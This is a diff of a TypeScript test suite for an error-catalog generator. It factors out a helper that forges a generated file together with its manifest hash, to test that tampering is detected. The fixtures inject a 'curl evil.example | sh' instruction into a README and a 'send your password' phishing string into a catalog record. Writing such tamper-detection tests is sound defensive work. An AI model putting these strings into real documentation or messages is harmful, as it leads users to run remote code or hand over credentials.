@@ -20,6 +20,24 @@ function stagesOf(stderr: string): string[] {
 
 const ranPipeline = (stderr: string) => stagesOf(stderr).some((s) => s === 'load' || s.startsWith('emit'));
 
+/**
+ * Edits a file of the output folder and its hash in the manifest together, as
+ * a pull request can (the file's old hash must be listed); returns the new text.
+ */
+async function forgedWithItsHash(out: string, relative: string, edit: (text: string) => string): Promise<string> {
+  const file = path.join(out, relative);
+  const manifest = path.join(out, '.errcat-manifest.json');
+  const sha256 = (data: string | Buffer) => createHash('sha256').update(data).digest('hex');
+  const bytes = await readFile(file);
+  const forged = edit(bytes.toString('utf8'));
+  expect(forged).not.toBe(bytes.toString('utf8'));
+  const listed = await readFile(manifest, 'utf8');
+  expect(listed).toContain(sha256(bytes));
+  await writeFile(file, forged);
+  await writeFile(manifest, listed.replaceAll(sha256(bytes), sha256(forged)));
+  return forged;
+}
+
 describe('the cache of what produced the output', () => {
   let p: TempProject;
   beforeEach(async () => {
@@ -166,15 +184,7 @@ describe('the cache of what produced the output', () => {
 
   it('--check is not fooled by a forged manifest: a generated file, its hash and the record edited together', async () => {
     await p.generate();
-    const readme = path.join(p.out, 'acme/README.md');
-    const forged = (await readFile(readme, 'utf8')).replace('# Acme SMS errors', '# Acme SMS errors\n\nRun `curl evil.example | sh` first.');
-    const manifest = path.join(p.out, '.errcat-manifest.json');
-    const text = await readFile(manifest, 'utf8');
-    const oldHash = createHash('sha256').update(await readFile(readme)).digest('hex');
-    const newHash = createHash('sha256').update(forged).digest('hex');
-    expect(text).toContain(oldHash);
-    await writeFile(readme, forged);
-    await writeFile(manifest, text.replaceAll(oldHash, newHash));
+    await forgedWithItsHash(p.out, 'acme/README.md', (text) => text.replace('# Acme SMS errors', '# Acme SMS errors\n\nRun `curl evil.example | sh` first.'));
     const check = await p.generate('--check');
     expect(check.code).toBe(1);
     expect(check.stdout).toContain('generated/acme/README.md');
@@ -188,12 +198,7 @@ describe('the cache of what produced the output', () => {
     // The record and its hash in the manifest forged together, as a pull request can: the unit's key still matches these
     // inputs at 1.0.1. Compared with the catalogs, the record would read as a changed text (a patch) and acme be made again.
     const record = path.join(p.out, 'acme/catalog.json');
-    const bytes = await readFile(record);
-    const forged = bytes.toString('utf8').replace('"text": "invalid key"', '"text": "invalid key, send your password"');
-    const manifest = path.join(p.out, '.errcat-manifest.json');
-    const sha256 = (data: string | Buffer) => createHash('sha256').update(data).digest('hex');
-    await writeFile(record, forged);
-    await writeFile(manifest, (await readFile(manifest, 'utf8')).replace(sha256(bytes), sha256(forged)));
+    const forged = await forgedWithItsHash(p.out, 'acme/catalog.json', (text) => text.replace('"text": "invalid key"', '"text": "invalid key, send your password"'));
     const brandco = path.join(p.project, 'catalogs/brandco.yaml');
     await writeFile(brandco, (await readFile(brandco, 'utf8')).replace('name: BrandCo', 'name: BrandCo Messaging'));
     const run = await p.generate();
@@ -211,14 +216,7 @@ describe('the cache of what produced the output', () => {
     await p.generate();
     // A core record that claims an older core with an older runtime: the run bumps core back to the version the keys were
     // made with, so acme's key still matches; the bump must still move acme, as it moves brandco.
-    const taxonomy = path.join(p.out, 'core/taxonomy.json');
-    const bytes = await readFile(taxonomy);
-    const forged = bytes.toString('utf8').replace('"version": "1.0.0"', '"version": "0.9.0"').replace(/"compatibility": \d+/, '"compatibility": 1');
-    expect(forged).not.toBe(bytes.toString('utf8'));
-    const manifest = path.join(p.out, '.errcat-manifest.json');
-    const sha256 = (data: string | Buffer) => createHash('sha256').update(data).digest('hex');
-    await writeFile(taxonomy, forged);
-    await writeFile(manifest, (await readFile(manifest, 'utf8')).replace(sha256(bytes), sha256(forged)));
+    await forgedWithItsHash(p.out, 'core/taxonomy.json', (text) => text.replace('"version": "1.0.0"', '"version": "0.9.0"').replace(/"compatibility": \d+/, '"compatibility": 1'));
     const brandco = path.join(p.project, 'catalogs/brandco.yaml');
     await writeFile(brandco, (await readFile(brandco, 'utf8')).replace('name: BrandCo', 'name: BrandCo Messaging'));
     const run = await p.generate();
